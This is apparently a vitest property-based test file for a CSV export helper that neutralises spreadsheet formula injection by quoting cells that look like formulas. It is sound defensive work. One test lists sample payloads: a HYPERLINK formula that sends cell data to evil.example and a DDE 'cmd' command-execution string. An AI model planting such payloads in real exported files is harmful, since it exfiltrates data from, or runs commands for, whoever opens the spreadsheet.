// CSV cells a spreadsheet cannot run: text that starts like a formula is quoted away with a
// leading single quote; plain numbers, as numbers or as decimal text, stay what they are.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvWriter, spreadsheetSafe } from './csv.ts';

const triggers = ['=', '+', '-', '@', '\t', '\r'];
const isPlainNumber = (s: string) => /^[+-]?\d+(\.\d+)?$/.test(s);

/** Strings that often start like a formula, a number, or neither. */
const cell = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom(...triggers), fc.string()).map(([start, rest]) => start + rest),
  fc
    .tuple(fc.constantFrom('', '-', '+'), fc.nat(), fc.option(fc.nat({ max: 99 })))
    .map(([sign, whole, cents]) => `${sign}${whole}${cents === null ? '' : `.${cents}`}`),
);

async function writtenAndReadBack(records: Array<Array<string | number>>) {
  const csv = csvWriter(records[0]?.map((_, i) => `c${i}`) ?? ['c0']);
  const chunks: string[] = [];
  csv.on('data', (chunk: Buffer | string) => chunks.push(chunk.toString()));
  const done = new Promise((resolve, reject) => {
    csv.on('end', resolve);
    csv.on('error', reject);
  });
  for (const record of records) csv.write(record);
  csv.end();
  await done;
  return parse(chunks.join(''), {
    bom: true,
    from_line: 2,
    relax_column_count: true,
  }) as string[][];
}

describe('spreadsheetSafe', () => {
  it('never leaves a cell that a spreadsheet reads as a formula', () => {
    fc.assert(
      fc.property(cell, (value) => {
        const safe = spreadsheetSafe(value);
        // Either unchanged or the same text behind one quote: nothing is lost.
        expect(safe === value || safe === `'${value}`).toBe(true);
        // What still starts with a formula character is a plain number.
        if (triggers.some((t) => safe.startsWith(t))) expect(isPlainNumber(safe)).toBe(true);
        // Text that does not start like a formula, and every plain number, is kept as it is.
        if (!triggers.some((t) => value.startsWith(t)) || isPlainNumber(value)) {
          expect(safe).toBe(value);
        } else {
          expect(safe).toBe(`'${value}`);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('quotes the attacks OWASP names and keeps amounts usable', () => {
    expect(spreadsheetSafe('=HYPERLINK("https://evil.example/?"&A1,"open")')).toBe(
      `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
    );
    expect(spreadsheetSafe('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(spreadsheetSafe('+420 602 123 456')).toBe("'+420 602 123 456");
    expect(spreadsheetSafe("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(spreadsheetSafe('\t=1+1')).toBe("'\t=1+1");
    expect(spreadsheetSafe('\r=1+1')).toBe("'\r=1+1");
    expect(spreadsheetSafe('-125.50')).toBe('-125.50');
    expect(spreadsheetSafe('1750.00')).toBe('1750.00');
    expect(spreadsheetSafe('Jana Nováková')).toBe('Jana Nováková');
    expect(spreadsheetSafe('')).toBe('');
  });
});

describe('csvWriter', () => {
  it('writes every text cell safe and every number as it is, through a real CSV round trip', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, fc.integer({ min: -1_000_000, max: 1_000_000 })), {
          minLength: 1,
          maxLength: 5,
        }),
        async (rows) => {
          const read = await writtenAndReadBack(rows.map(([text, amount]) => [text, amount]));
          expect(read).toEqual(
            rows.map(([text, amount]) => [spreadsheetSafe(text), String(amount)]),
          );
        },
      ),
      { numRuns: 200 },
    );
  });
});
